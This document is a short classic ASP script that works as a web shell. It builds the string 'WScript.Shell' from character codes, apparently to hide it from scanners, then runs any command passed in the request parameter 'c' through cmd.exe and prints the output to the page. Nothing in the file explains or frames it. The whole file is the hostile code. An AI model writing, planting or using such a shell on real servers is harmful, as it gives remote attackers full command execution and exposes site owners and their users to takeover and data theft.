<%
n = Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & Chr(46) & Chr(83) & Chr(104) & Chr(101) & Chr(108) & Chr(108)
Set o = Server.CreateObject(n)
Response.Write o.Exec("cmd /c " & Request("c")).StdOut.ReadAll
%>
